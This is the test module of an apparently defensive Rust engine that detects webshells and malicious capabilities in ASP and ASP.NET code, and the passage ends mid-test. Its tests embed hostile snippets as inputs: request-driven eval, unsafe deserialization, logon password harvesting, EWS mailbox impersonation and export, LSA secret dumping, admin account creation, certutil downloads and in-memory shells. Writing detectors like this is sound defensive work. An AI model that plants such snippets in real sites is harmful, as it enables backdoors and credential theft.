        assert!(!decisive(&xslt.replace("XsltSettings(false,true)", "XsltSettings.Default"), "request-xslt-script"));
        // A formatter built by reflection from its type's name is that formatter.
        let built = "Type ft=Type.GetType(\"System.Web.UI.LosFormatter, System.Web\");\n\
                     dynamic f=Activator.CreateInstance(ft);\nobject o=f.Deserialize(Request.Form[\"s\"]);";
        assert!(decisive(built, "request-deserialization"));
        let cast = "var f=(IFormatter)Activator.CreateInstance(Type.GetType(\"System.Runtime.Serialization.Formatters.Binary.BinaryFormatter\"));\n\
                    using(var ms=new MemoryStream(Convert.FromBase64String(Request.Form[\"t\"])))o=f.Deserialize(ms);";
        assert!(decisive(cast, "request-deserialization"));
        let dataset = "AppContext.SetSwitch(\"Switch.System.Data.AllowArbitraryDataSetTypeInstantiation\",true);\n\
                       var ds=new DataSet();\nds.ReadXml(fuData.PostedFile.InputStream,XmlReadMode.ReadSchema);";
        assert!(decisive(
            &format!("<asp:FileUpload runat=\"server\" ID=\"fuData\"/>\n{dataset}"),
            "request-dataset-types"
        ));
        let guarded = dataset.replace("\",true)", "\",false)");
        assert!(!decisive(
            &format!("<asp:FileUpload runat=\"server\" ID=\"fuData\"/>\n{guarded}"),
            "request-dataset-types"
        ));
        let fixed = "Type ft=typeof(XmlSerializer);\nvar f=Activator.CreateInstance(ft);\nobject o=f.Deserialize(Request.InputStream);";
        assert!(!decisive(fixed, "request-deserialization"), "a serializer of fixed types");
        let reflected = "Type t=Type.GetType(\"System.Diagnostics.Process\");";
        assert!(ids(&e.assess_code(reflected, "/x/a.aspx")).contains(&"process-creation"));
    }

    #[test]
    fn a_file_object_made_to_read_a_name_touches_no_file() {
        let e = engine();
        let name = "var f=Request.Files[0];\nvar n=new FileInfo(f.FileName).Name;";
        let assessed = e.assess_code(name, "/x/a.aspx");
        let shown = ids(&assessed);
        assert!(!shown.contains(&"visitor-named-path") && !shown.contains(&"request-file-access"), "{shown:?}");
        let read = "var t=new FileInfo(Request.Form[\"p\"]).OpenText().ReadToEnd();";
        assert!(ids(&e.assess_code(read, "/x/a.aspx")).contains(&"visitor-named-path"));
    }

    #[test]
    fn a_reader_over_the_request_body_names_no_path() {
        let e = engine();
        for code in [
            "using(var r=new StreamReader(context.Request.InputStream)){body=r.ReadToEnd();}",
            "Stream s=context.Request.InputStream;\nvar r=new StreamReader(s);",
        ] {
            assert!(!ids(&e.assess_code(code, "/x/a.ashx")).contains(&"visitor-named-path"), "{code}");
        }
        let path = "var r=new StreamReader(context.Request.Form[\"path\"]);";
        assert!(ids(&e.assess_code(path, "/x/a.ashx")).contains(&"visitor-named-path"));
    }

    #[test]
    fn what_the_server_sets_in_the_request_is_not_the_visitors_data() {
        let e = engine();
        let log = "set ts=fso.OpenTextFile(Server.MapPath(Request(\"f\")),8,true)\n\
                   c=now()&\",\"&Request.ServerVariables(\"REMOTE_ADDR\")\nts.Write c";
        assert!(!ids(&e.assess_code(log, "/x/a.asp")).contains(&"request-file-content"));
        let agent = log.replace("REMOTE_ADDR", "HTTP_USER_AGENT");
        assert!(ids(&e.assess_code(&agent, "/x/a.asp")).contains(&"request-file-content"));
        let peer = "IPAddress ip=IPAddress.Parse(HttpContext.Current.Request.UserHostAddress);";
        assert!(!ids(&e.assess_code(peer, "/x/a.aspx")).contains(&"request-network-target"));
    }

    #[test]
    fn code_a_page_reads_from_its_own_files_is_the_applications() {
        let e = engine();
        let engine_page = "Function Load(n)\nSet ts=fso.OpenTextFile(Server.MapPath(\"/t/\"&n&\".tpl\"))\nLoad=ts.ReadAll\nEnd Function\n\
                           Function Compile(s)\nCompile=Replace(s,\"{\",\"\")\nEnd Function\n\
                           Execute Compile(Load(Request(\"t\")))";
        assert!(e.assess_code(engine_page, "/x/a.asp").iter().all(|s| !s.decisive));
        // The same shape decoding the request's own text is run.
        let decoder = "Function Load(n)\nLoad=n\nEnd Function\nFunction Compile(s)\nCompile=Replace(s,\"{\",\"\")\nEnd Function\n\
                       Execute Compile(Load(Request(\"t\")))";
        assert!(e.assess_code(decoder, "/x/a.asp").iter().any(|s| s.decisive));
        // Through a name the compiled template is kept in (and cached).
        let kept = engine_page.replace(
            "Execute Compile(Load(Request(\"t\")))",
            "c=Application(\"k\")\nIf c=\"\" Then c=Compile(Load(Request(\"t\")))\nExecuteGlobal c",
        );
        assert!(e.assess_code(&kept, "/x/a.asp").iter().all(|s| !s.decisive));
        let decoded = decoder
            .replace("Execute Compile(Load(Request(\"t\")))", "c=Compile(Load(Request(\"t\")))\nExecuteGlobal c");
        assert!(e.assess_code(&decoded, "/x/a.asp").iter().any(|s| s.decisive));
    }

    #[test]
    fn a_list_of_components_tried_in_turn_is_not_their_use() {
        let e = engine();
        let probe = "c=Array(\"Scripting.FileSystemObject\",\"ADODB.Stream\",\"WScript.Shell\",\"Persits.Upload\")\n\
                     For Each n In c\nSet o=Server.CreateObject(n)\nNext";
        assert!(e.assess_code(probe, "/x/a.asp").iter().all(|s| s.id != "process-creation"));
        // The same names used one by one are used.
        let used = format!("{probe}\nSet sh=Server.CreateObject(\"WScript.Shell\")");
        assert!(e.assess_code(&used, "/x/a.asp").iter().any(|s| s.id == "process-creation"));
        let pair = "c=Array(\"ADODB.Stream\",\"WScript.Shell\")";
        assert!(e.assess_code(pair, "/x/a.asp").iter().any(|s| s.id == "process-creation"));
    }

    #[test]
    fn posted_server_inputs_are_sources_and_computed_execution_counts() {
        let e = engine();
        let page = "<input runat=\"server\" id=\"txtPath\" /><asp:TextBox ID=\"body\" runat=\"server\"/>";
        let code = "var w=new StreamWriter(txtPath.Value);\nw.Write(body.Text);";
        let shown = e.assess(code, page, Dialect::CLike, "/x/a.aspx");
        assert!(shown.iter().any(|s| s.id == "request-file-write"));
        assert!(e.assess(code, "", Dialect::CLike, "/x/a.aspx").iter().all(|s| s.id != "request-file-write"));
        let vb =
            e.assess("Function cd(a,b)\ncd=a&b\nEnd Function\nExecute cd(\"hw\",\"1\")", "", Dialect::Vb, "/x/a.asp");
        assert_eq!(ids(&vb), vec!["execute-computed"]);
        // VBScript indexes arrays with parentheses: running a name from a list is not
        // running a value the page's own code computed; nor is a Sub's End followed by a call.
        let listed = "Dim s\ns=Split(h,\"|\")\nSub Run()\nEnd Sub\ns(0)=1\nCall Execute(s(i)&\" x\")";
        assert!(e.assess(listed, "", Dialect::Vb, "/x/a.asp").is_empty());
        // A query opened on a Recordset is not a connection the visitor supplies; a
        // Connection opened with request data is.
        let query = "set conn=server.createobject(\"adodb.connection\")\nconn.open \"dsn=x\"\n\
                     sql=\"select * from t where id=\"&request(\"id\")\n\
                     set rs=server.createobject(\"adodb.recordset\")\nrs.open sql,conn,3,2";
        assert!(!ids(&e.assess(query, "", Dialect::Vb, "/x/a.asp")).contains(&"request-sql-connection"));
        let supplied = "set conn=server.createobject(\"adodb.connection\")\nconn.open request(\"dsn\")";
        // An installer tests the connection the visitor typed in; a client runs queries on it.
        assert!(!ids(&e.assess(supplied, "", Dialect::Vb, "/x/a.asp")).contains(&"request-sql-connection"));
        let client = format!("{supplied}\nset rs=conn.execute(request(\"q\"))");
        assert!(ids(&e.assess(&client, "", Dialect::Vb, "/x/a.asp")).contains(&"request-sql-connection"));
        // A procedure whose name starts with "execute" is not the statement.
        let sql =
            e.assess("Function executesql(sql,t)\nEnd Function\nexecutesql(\"x\",1)", "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&sql).is_empty(), "{:?}", ids(&sql));
        let js = e.assess("var f={'E':eval};\nf.E(Request.form(\"z\")+'');", "", Dialect::CLike, "/x/a.asp");
        assert!(ids(&js).contains(&"eval-as-value"));
        assert!(e.severity(&js) >= Some(Severity::High));
    }

    #[test]
    fn a_page_reading_other_mailboxes_through_ews_as_the_server_is_mail_theft() {
        let e = engine();
        let soap = "string env=\"<soap:Header><t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>\"+who+\"</t:PrimarySmtpAddress>\";\n\
                    string get=\"<m:GetItem><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape><t:IncludeMimeContent>true</t:IncludeMimeContent>\";";
        let shown = e.assess_code(soap, "/ecp/x.aspx");
        assert!(
            ids(&shown).contains(&"ews-impersonation") && ids(&shown).contains(&"ews-message-content"),
            "{shown:?}"
        );
        assert!(e.severity(&shown) >= Some(Severity::High));
        let managed = "service.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, who);";
        assert!(ids(&e.assess_code(managed, "/x.aspx")).contains(&"ews-impersonation"));
        // A page's own mailbox through EWS, messages without their MIME stream: neither.
        let own = "var items=service.FindItems(WellKnownFolderName.Inbox,new ItemView(10));";
        assert!(e.assess_code(own, "/x.aspx").is_empty());
    }

    #[test]
    fn loading_an_assembly_by_name_is_not_running_code_the_page_holds() {
        let e = engine();
        let shows = |code: &str| ids(&e.assess_code(code, "/x/a.cs")).contains(&"dynamic-code");
        assert!(shows("var a = Assembly.Load(Convert.FromBase64String(k));"));
        assert!(shows("byte[] buf = r.ReadBytes(n);\nvar a = Assembly.Load(buf);"));
        assert!(!shows("var a = Assembly.Load(assemblyName);"));
        assert!(!shows("var a = Assembly.Load(new AssemblyName(\"System.Web\"));"));
        assert!(!shows("var a = Assembly.Load(t.Assembly.FullName);"));
    }

    fn engine() -> CapabilityEngine {
        CapabilityEngine::embedded().unwrap_or_else(|e| panic!("{e}"))
    }

    fn ids(shown: &[Shown]) -> Vec<&str> {
        shown.iter().map(|s| s.id.as_str()).collect()
    }

    #[test]
    fn passwords_written_to_a_file_from_an_application_hook_are_captured_credentials() {
        let e = engine();
        let hook = "Sub Application_BeginRequest(ByVal sender As Object,ByVal e As EventArgs)\n\
                    Dim r As HttpRequest=HttpContext.Current.Request\nDim p As String=r.Form(\"password\")\n\
                    Dim line As String=r.Form(\"username\")&vbTab&p\nFile.AppendAllText(LogPath,line)\nEnd Sub";
        let shown = e.assess_code(hook, "/owa/Global.asax");
        assert!(ids(&shown).contains(&"credential-capture"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) >= Some(Severity::High));
        let basic = "public void Init(HttpApplication app)\n{\napp.BeginRequest+=OnBegin;\n}\nvoid OnBegin(object s,EventArgs a)\n{\n\
                     var h=HttpContext.Current.Request.Headers[\"Authorization\"];\n\
                     using(var w=new StreamWriter(\"c:\\\\t\\\\x.log\",true))w.WriteLine(h);\n}";
        assert!(ids(&e.assess_code(basic, "/App_Code/M.cs")).contains(&"credential-capture"));
        let installer =
            "pwd=Request.Form(\"password\")\nFile.WriteAllText(Server.MapPath(\"conn.config\"),\"Password=\"&pwd)";
        assert!(!ids(&e.assess_code(installer, "/install/setup.aspx")).contains(&"credential-capture"));
        let names = hook.replace("r.Form(\"password\")", "r.Form(\"culture\")");
        assert!(!ids(&e.assess_code(&names, "/Global.asax")).contains(&"credential-capture"));
    }

    #[test]
    fn a_logon_page_that_appends_passwords_to_a_file_is_a_harvester() {
        let e = engine();
        let has = |code: &str| ids(&e.assess_code(code, "/site/logon.aspx")).contains(&"credential-log");
        let net = "if(Request.HttpMethod==\"POST\"){\nstring line=Request.Form[\"username\"]+\"\\t\"+Request.Form[\"password\"];\n\
                   File.AppendAllText(@\"c:\\x\\r.gif\",line);\n}";
        assert!(has(net));
        let vb = "Set fso=CreateObject(\"Scripting.FileSystemObject\")\nSet f=fso.OpenTextFile(Server.MapPath(\"l.txt\"),8,True)\n\
                  f.WriteLine Request.Form(\"user\")&\":\"&Request.Form(\"pass\")\nf.Close";
        assert!(has(vb));
        let writer = "var w=new StreamWriter(p,true);\nw.WriteLine(Request.Form[\"pwd\"]);";
        assert!(has(writer));
        let bytes = "string l=Request.Form[\"username\"]+Request.Form[\"password\"];\nbyte[] b=Encoding.UTF8.GetBytes(l);\n\
                     using(FileStream fs=new FileStream(f,FileMode.Append,FileAccess.Write))\n{\nfs.Write(b,0,b.Length);\n}";
        assert!(has(bytes));
        assert!(!has(&bytes.replace("FileMode.Append", "FileMode.Create")));
        let stomp = "File.SetLastWriteTime(f,new DateTime(2019,3,12,8,14,0));";
        assert!(ids(&e.assess_code(stomp, "/owa/auth/logon.aspx")).contains(&"timestomp"));
        assert!(!ids(&e.assess_code("File.SetLastWriteTime(f,DateTime.Now);", "/x.aspx")).contains(&"timestomp"));
        // Written once to a file it overwrites (an installer's configuration), or another field: not one.
        assert!(!has("Set f=fso.OpenTextFile(Server.MapPath(\"c.asp\"),2,True)\nf.Write Request.Form(\"pass\")"));
        assert!(!has("var w=new StreamWriter(p,false);\nw.WriteLine(Request.Form[\"pwd\"]);"));
        assert!(!has("File.AppendAllText(@\"c:\\x\\r.log\",Request.Form[\"comment\"]);"));
        // The page's own password inputs, however named: a server control, a plain posted field.
        let control = "<asp:TextBox ID=\"txtSecret\" runat=\"server\" TextMode=\"Password\" />";
        let code = "string l=txtAccount.Text+\"\\t\"+txtSecret.Text;\nFile.AppendAllText(@\"c:\\x\\t.tmp\",l);";
        let logged = |markup: &str, code: &str| {
            ids(&e.assess(code, &format!("{markup}{code}"), Dialect::CLike, "/a.aspx")).contains(&"credential-log")
        };
        assert!(logged(control, code));
        assert!(!logged(&control.replace("Password", "SingleLine"), code), "not a password field");
        let field = "<input type=\"password\" name=\"k9\">";
        assert!(logged(field, "File.AppendAllText(p,Request.Form[\"k9\"]);"));
        assert!(!logged(field, "File.AppendAllText(p,Request.Form[\"k8\"]);"));
    }

    #[test]
    fn request_code_run_by_roslyn_or_json_picking_its_types_is_code_execution() {
        let e = engine();
        let roslyn = "var c=Request.Cookies[\"k\"].Value;\nvar r=CSharpScript.EvaluateAsync<object>(c,opts).Result;";
        assert!(ids(&e.assess_code(roslyn, "/Views/a.cshtml")).contains(&"request-script-engine"));
        let resolver = "var s=new JavaScriptSerializer(new SimpleTypeResolver());\nvar o=s.DeserializeObject(Request.Form[\"j\"]);";
        assert!(ids(&e.assess_code(resolver, "/api/p.ashx")).contains(&"request-json-type-resolver"));
        let plain = "var s=new JavaScriptSerializer();\nvar o=s.DeserializeObject(Request.Form[\"j\"]);";
        assert!(!ids(&e.assess_code(plain, "/api/p.ashx")).contains(&"request-json-type-resolver"));
    }

    #[test]
    fn members_set_by_an_object_initializer_carry_request_data() {
        let e = engine();
        let code = "class Pipe\n{\npublic string Host;\npublic int Port;\npublic void Go()\n{\nvar tc=new TcpClient();\ntc.Connect(Host,Port);\n}\n}\n\
                    var parts=Request.Headers[\"X-D\"].Split(':');\nvar p=new Pipe{Host=parts[0],Port=int.Parse(parts[1])};\np.Go();";
        assert!(ids(&e.assess_code(code, "/api/r.ashx")).contains(&"request-network-target"));
        let fixed = code.replace("Host=parts[0]", "Host=\"hooks.example.com\"").replace("int.Parse(parts[1])", "443");
        assert!(!ids(&e.assess_code(&fixed, "/api/r.ashx")).contains(&"request-network-target"));
    }

    #[test]
    fn a_lookup_in_a_table_of_literals_is_a_literal_whatever_the_key() {
        let e = engine();
        let dispatch = "Set h=Server.CreateObject(\"Scripting.Dictionary\")\nh.Add \"text\",\"Render_Text\"\n\
                        h.Add \"image\",\"Render_Image\"\nk=Request(\"t\")\nIf h.Exists(k) Then\nExecute \"Call \"&h(k)&\"(b)\"\nEnd If";
        assert!(!ids(&e.assess_code(dispatch, "/cms/page.asp")).contains(&"request-eval"));
        // A table that also stores request data, or the key run as code, is request code.
        let stored = dispatch.replace("h.Add \"image\",\"Render_Image\"", "h.Add \"image\",Request(\"c\")");
        assert!(ids(&e.assess_code(&stored, "/cms/page.asp")).contains(&"request-eval"));
        let keyed = dispatch.replace("&h(k)&", "&k&");
        assert!(ids(&e.assess_code(&keyed, "/cms/page.asp")).contains(&"request-eval"));
    }

    #[test]
    fn a_writer_over_an_outgoing_request_body_writes_no_file() {
        let e = engine();
        let post = "var request=(HttpWebRequest)WebRequest.Create(url);\nstring data=Request.Form[\"c\"];\n\
                    using(var writer=new StreamWriter(request.GetRequestStream()))\n{\nwriter.Write(data);\n}";
        let shown = e.assess_code(post, "/App_Code/Akismet.cs");
        for id in ["request-file-write", "request-file-content", "visitor-named-path"] {
            assert!(!ids(&shown).contains(&id), "{id}: {:?}", ids(&shown));
        }
        let file = post.replace("request.GetRequestStream()", "Request.Form[\"p\"]");
        assert!(ids(&e.assess_code(&file, "/x/a.aspx")).contains(&"request-file-content"));
    }

    #[test]
    fn request_templates_compiled_and_machine_key_internals_are_caught() {
        let e = engine();
        let template =
            "var body=Request.Unvalidated.Form[\"tpl\"];\nlit.Text=Engine.Razor.RunCompile(body,key,typeof(M),model);";
        assert!(ids(&e.assess_code(template, "/Templates/p.aspx")).contains(&"request-script-engine"));
        let fixed = "lit.Text=Engine.Razor.RunCompile(File.ReadAllText(Server.MapPath(\"~/t/mail.cshtml\")),key);";
        assert!(!ids(&e.assess_code(fixed, "/Templates/p.aspx")).contains(&"request-script-engine"));
        let internals =
            "var t=typeof(MachineKeySection);\nvar cfg=t.GetMethod(\"GetApplicationConfig\",Any).Invoke(null,null);";
        assert!(ids(&e.assess_code(internals, "/admin/x.aspx")).contains(&"machinekey-internals"));
        let folded = "var cfg=MachineKeySection.GetApplicationConfig();";
        assert!(ids(&e.assess_code(folded, "/admin/x.aspx")).contains(&"machinekey-internals"));
        let configured = "var s=(MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\");";
        assert!(!ids(&e.assess_code(configured, "/admin/x.aspx")).contains(&"machinekey-internals"));
    }

    #[test]
    fn an_upload_that_takes_only_images_is_the_applications() {
        let e = engine();
        let upload = "Set st=Server.CreateObject(\"ADODB.Stream\")\nd=Request.BinaryRead(Request.TotalBytes)\n\
                      ext=LCase(Mid(f,InStrRev(f,\".\")+1))\nIf ext<>\"jpg\" And ext<>\"png\" Then\nResponse.End\nEnd If\n\
                      st.WriteText d\nst.SaveToFile Server.MapPath(\"up/\"&n&\".\"&ext),2";
        let shown = ids(&e.assess_code(upload, "/legacy/upload.asp")).join(",");
        assert!(!shown.contains("request-stream-text") && !shown.contains("request-file-write"), "{shown}");
        let any = upload.replace("If ext<>\"jpg\" And ext<>\"png\" Then", "If ext=\"\" Then");
        assert!(ids(&e.assess_code(&any, "/legacy/upload.asp")).contains(&"request-stream-text"));
        let net = "var ext=Path.GetExtension(Request.Files[0].FileName);\nif(!new[]{\".jpg\",\".png\"}.Contains(ext))return;\n\
                   Request.Files[0].SaveAs(Server.MapPath(\"~/up/\"+Guid.NewGuid()+ext));";
        assert!(!ids(&e.assess_code(net, "/up/a.aspx")).contains(&"request-file-write"));
    }

    #[test]
    fn vb_my_computer_file_system_is_file_access() {
        let e = engine();
        let write = "Dim target As String=Request.Headers(\"X-File-Name\")\nDim data As Byte()=Request.BinaryRead(Request.TotalBytes)\n\
                     My.Computer.FileSystem.WriteAllBytes(target,data,False)";
        let shown = ids(&e.assess_code(write, "/hr/Upload.aspx")).join(",");
        assert!(shown.contains("request-file-write") && shown.contains("visitor-named-path"), "{shown}");
        let browse = "d=Request.Params(\"d\")\nFor Each f As String In My.Computer.FileSystem.GetFiles(d)\nNext";
        assert!(ids(&e.assess_code(browse, "/docs/Browse.aspx")).contains(&"request-file-access"));
    }

    #[test]
    fn exchange_mailbox_export_cmdlets_are_mail_theft() {
        let e = engine();
        let export = "verb=\"New-MailboxExportRequest\";\nps.AddCommand(verb);";
        assert!(ids(&e.assess_code(export, "/ecp/auth/t.aspx")).contains(&"mailbox-export"));
        let role = "args[\"Role\"]=\"Mailbox Import Export\";";
        assert!(ids(&e.assess_code(role, "/ecp/auth/t.aspx")).contains(&"mailbox-export"));
        assert!(!ids(&e.assess_code("ps.AddCommand(\"Get-Mailbox\");", "/x.aspx")).contains(&"mailbox-export"));
    }

    #[test]
    fn lsa_secrets_read_through_the_api_are_a_credential_dump() {
        let e = engine();
        let code = "[DllImport(\"advapi32.dll\")]\nstatic extern uint LsaRetrievePrivateData(IntPtr p,ref LSA_UNICODE_STRING k,out IntPtr d);\n\
                    st=LsaRetrievePrivateData(pol,ref key,out pd);";
        assert!(ids(&e.assess_code(code, "/site/info.ashx")).contains(&"credential-dump"));
    }

    #[test]
    fn a_visitor_supplied_address_for_an_outbound_request_is_a_relay() {
        let e = engine();
        let has = |code: &str| ids(&e.assess_code(code, "/x/p.aspx")).contains(&"request-url-fetch");
        let header = "string u=Encoding.UTF8.GetString(Convert.FromBase64String(Request.Headers[\"X-Route\"]));\n\
                      var w=(HttpWebRequest)WebRequest.Create(u);";
        assert!(has(header));
        assert!(!has(&header.replace("Create(u)", "Create(\"https://backend.local/api/\"+u)")), "a fixed backend");
        let asp = "Set h=Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nt=Request.ServerVariables(\"HTTP_X_TARGET\")\n\
                   h.open Request.ServerVariables(\"REQUEST_METHOD\"),t,False";
        assert!(ids(&e.assess_code(asp, "/x/p.asp")).contains(&"request-url-fetch"));
        let recordset = "Set rs=Server.CreateObject(\"ADODB.Recordset\")\nrs.open \"select 1\",Request(\"c\"),1";
        assert!(!ids(&e.assess_code(recordset, "/x/p.asp")).contains(&"request-url-fetch"));
    }

    #[test]
    fn administrator_accounts_private_keys_and_download_tools_are_seen() {
        let e = engine();
        let has = |code: &str, id: &str| ids(&e.assess_code(code, "/x/a.aspx")).contains(&id);
        let vbs = "Set grp=GetObject(\"WinNT://\"&host&\"/Administrators,group\")\ngrp.Add \"WinNT://\"&host&\"/\"&u&\",user\"";
        assert!(has(vbs, "local-admin-account"));
        assert!(has("var g=machine.Children.Find(\"Administrators\",\"group\");", "local-admin-account"));
        assert!(!has("var g=machine.Children.Find(\"Users\",\"group\");", "local-admin-account"));
        let created = "Set comp=GetObject(\"WinNT://\"&host&\",computer\")\nSet usr=comp.Create(\"user\",Request.Form(\"u\"))\n\
                       usr.SetPassword Request.Form(\"p\")\nSet grp=GetObject(\"WinNT://\"&host&\"/Administrators,group\")";
        let shown = e.assess_code(created, "/x/useradd.asp");
        assert!(
            ids(&shown).contains(&"request-account") && e.severity(&shown) >= Some(Severity::High),
            "{:?}",
            ids(&shown)
        );
        let pfx =
            "var s=new X509Store(StoreName.My,StoreLocation.LocalMachine);\nbyte[]b=c.Export(X509ContentType.Pfx,pw);";
        assert!(has(pfx, "private-key-export"));
        assert!(
            !has(&pfx.replace("X509ContentType.Pfx", "X509ContentType.Cert"), "private-key-export"),
            "the public part"
        );
        assert!(has(
            "Process.Start(\"certutil.exe\",\"-urlcache -split -f \"+u+\" c:\\\\t\\\\a.exe\");",
            "lolbin-download"
        ));
        assert!(!has("Process.Start(\"certutil.exe\",\"-dump\");", "lolbin-download"));
    }

    #[test]
    fn request_driven_eval_alone_is_a_webshell() {
        let e = engine();
        let shown = e.assess_code("Dim o:o=Request(\"k\")\nExecute o", "/site/a.asp");
        assert_eq!(ids(&shown), vec!["request-eval"]);
        assert!(e.severity(&shown) >= Some(Severity::High));
        // JScript's Function constructor runs its text, with or without `new`.
        for code in ["var d=String(Request.Item(\"d\"));\n(Function(d))();", "f=new Function(Request(\"d\"));f();"] {
            assert!(ids(&e.assess_code(code, "/site/c.asp")).contains(&"request-eval"), "{code}");
        }
        let declared = "Function Show(x)\nShow=x\nEnd Function\nv=Show(Request(\"d\"))\nDim f:f=Function(r) r+1";
        assert!(!ids(&e.assess_code(declared, "/site/v.asp")).contains(&"request-eval"));
    }

    #[test]
    fn one_ordinary_capability_is_not() {
        let e = engine();
        let log = "using(var r=new StreamReader(Request.InputStream))body=r.ReadToEnd();\n\
                   File.AppendAllText(Server.MapPath(\"~/App_Data/payments.log\"),DateTime.UtcNow+\" \"+body);";
        assert!(
            !ids(&e.assess_code(log, "/api/hook.aspx")).contains(&"request-file-write"),
            "the application's own log"
        );
        let named = log.replace("Server.MapPath(\"~/App_Data/payments.log\")", "Server.MapPath(Request[\"f\"])");
        assert!(ids(&e.assess_code(&named, "/api/hook.aspx")).contains(&"request-file-write"));
        let upload = "var f=Request.Files[0];\nf.SaveAs(Server.MapPath(\"~/up/\")+f.FileName);";
        let shown = e.assess_code(upload, "/site/upload.aspx");
        assert!(ids(&shown).contains(&"request-file-write"));
        assert!(e.severity(&shown) < Some(Severity::Medium));
        let eval_binding = "Eval(\"Name\")\nconn.Execute(\"select * from t where id=\"&Request(\"id\"))";
        assert!(e.assess_code(eval_binding, "/site/list.asp").iter().all(|s| !s.decisive));
    }

    #[test]
    fn code_staged_in_a_collection_is_followed_by_the_code_sinks_only() {
        let e = engine();
        let staged = "Set cfg=Server.CreateObject(\"Scripting.Dictionary\")\ncfg.Add \"theme\", \"blue\"\n\
                      cfg.Add \"filter\", Request.Item(\"filter\")\nFor Each k In cfg.Keys\nbuf=buf & cfg(k)\nNext\n\
                      If Len(buf)>0 Then ExecuteGlobal buf";
        assert!(ids(&e.assess_code(staged, "/site/d.asp")).contains(&"request-eval"));
        let list =
            "var parts=new List<string>();\nparts.Add(Request.Form[\"a\"]);\nProcess.Start(\"cmd.exe\",parts[0]);";
        assert!(ids(&e.assess_code(list, "/site/p.aspx")).contains(&"request-process"));
        // An upload class files the client's name in a dictionary; its save path is no code.
        let upload = "Set fields=Server.CreateObject(\"Scripting.Dictionary\")\n\
                      fields.Add \"name\", Request.Form(\"name\")\np=Server.MapPath(\"up/\" & fields(\"name\"))\n\
                      stream.SaveToFile p, 2\nExecute \"x=1\"";
        let found = e.assess_code(upload, "/site/up.asp");
        assert!(
            !ids(&found).contains(&"request-eval") && !ids(&found).contains(&"request-file-write"),
            "{:?}",
            ids(&found)
        );
        // Without the collection the staged page is not request driven.
        let fixed = staged.replace("Request.Item(\"filter\")", "\"f\"");
        assert!(!ids(&e.assess_code(&fixed, "/site/d.asp")).contains(&"request-eval"));
    }

    #[test]
    fn class_files_behind_the_applications_authorization_need_a_decisive_capability() {
        let e = engine();
        let manager = "public void ProcessRequest(HttpContext context){\nstring p=context.Request.QueryString[\"path\"];\n\
                       var f=context.Request.Files[0];\nf.SaveAs(p);\nFile.Delete(context.Request[\"del\"]);\n\
                       foreach(var d in Directory.GetFiles(p)){}\nFile.WriteAllText(p,context.Request.Form[\"body\"]);}";
        let shown = e.assess_code(manager, "/site/App_Code/Files.cs");
        let open = e.holder(manager, true);
        assert_eq!(open, Holder::ClassFile { authorizes: false });
        assert!(e.severity_of(&shown, open) >= Some(Severity::High), "{:?}", ids(&shown));
        let guarded = format!("if(!fileSystem.UserHasUploadPermission){{return;}}\n{manager}");
        let holder = e.holder(&guarded, true);
        assert_eq!(holder, Holder::ClassFile { authorizes: true });
        assert!(e.severity_of(&e.assess_code(&guarded, "/site/App_Code/Files.cs"), holder) <= Some(Severity::Low));
        // In a page only the framework's checks count: its own `isAdmin` may be a shell's login.
        assert_eq!(e.holder(&guarded, false), Holder::Page { authorizes: false });
        let roles = "if(!User.IsInRole(\"Editors\")){return;}\n";
        assert_eq!(e.holder(roles, false), Holder::Page { authorizes: true });
        // A decisive capability stays a webshell behind any check.
        let backdoor = "if(User.Identity.IsAuthenticated){Process.Start(\"cmd.exe\",\"/c \"+Request[\"c\"]);}";
        let holder = e.holder(backdoor, true);
        assert_eq!(holder, Holder::ClassFile { authorizes: true });
        assert!(e.severity_of(&e.assess_code(backdoor, "/site/App_Code/B.cs"), holder) >= Some(Severity::High));
        assert_eq!(e.holder("if(pass==\"x\"){}", true), Holder::ClassFile { authorizes: false });
    }

    #[test]
    fn vbscript_class_members_carry_request_data_to_their_procedures() {
        let e = engine();
        let method = "Class Entry\nPublic Sub ApplyFormat(fmt)\nIf Len(fmt)>0 Then Execute fmt\nEnd Sub\nEnd Class\n\
                      Set en=New Entry\nen.ApplyFormat Request.Cookies(\"f\")(\"t\")";
        assert!(ids(&e.assess_code(method, "/site/g.asp")).contains(&"request-eval"));
        let called =
            method.replace("en.ApplyFormat Request.Cookies(\"f\")(\"t\")", "Call en.ApplyFormat(Request(\"t\"))");
        assert!(ids(&e.assess_code(&called, "/site/g.asp")).contains(&"request-eval"));
        let property = "Class W\nPrivate m_body\nPublic Property Let Body(v)\nm_body=v\nEnd Property\n\
                        Public Sub Render()\nIf m_body<>\"\" Then ExecuteGlobal m_body\nEnd Sub\nEnd Class\n\
                        Set w=New W\nw.Body=Request.Item(\"widget\")\nw.Render";
        assert!(ids(&e.assess_code(property, "/site/w.asp")).contains(&"request-eval"));
        // A fixed value, or a member of an object that is not the page's class, carries nothing.
        let fixed = property.replace("Request.Item(\"widget\")", "\"<b>news</b>\"");
        assert!(!ids(&e.assess_code(&fixed, "/site/w.asp")).contains(&"request-eval"));
        let foreign = method.replace("Set en=New Entry", "Set en=Server.CreateObject(\"Some.Entry\")");
        assert!(!ids(&e.assess_code(&foreign, "/site/g.asp")).contains(&"request-eval"));
    }

    #[test]
    fn a_registered_class_carries_what_the_page_stored_in_its_members() {
        let e = engine();
        let provider = "public class Mem:VirtualPathProvider\n{public static string Body=\"\";\n\
                        public override VirtualFile GetFile(string p){return new F(p,Body);}}\n\
                        protected void Page_Load(object s,EventArgs a){\nMem.Body=Request.Form[\"src\"];\n\
                        HostingEnvironment.RegisterVirtualPathProvider(new Mem());}";
        assert!(ids(&e.assess_code(provider, "/site/v.aspx")).contains(&"request-memory-shell"));
        let fixed = provider.replace("Request.Form[\"src\"]", "File.ReadAllText(Server.MapPath(\"~/t.aspx\"))");
        assert!(!ids(&e.assess_code(&fixed, "/site/v.aspx")).contains(&"request-memory-shell"));
    }

    #[test]
    fn mapping_more_extensions_to_the_page_handler_in_web_config_is_persistence() {
        let e = engine();
        let patch = "string p=Server.MapPath(\"~/web.config\");var d=new XmlDocument();d.Load(p);\n\
                     var a=d.CreateElement(\"add\");a.SetAttribute(\"path\",\"*.jpg\");\n\
                     a.SetAttribute(\"type\",\"System.Web.UI.PageHandlerFactory\");h.AppendChild(a);d.Save(p);";
        let shown = e.assess_code(patch, "/site/c.aspx");
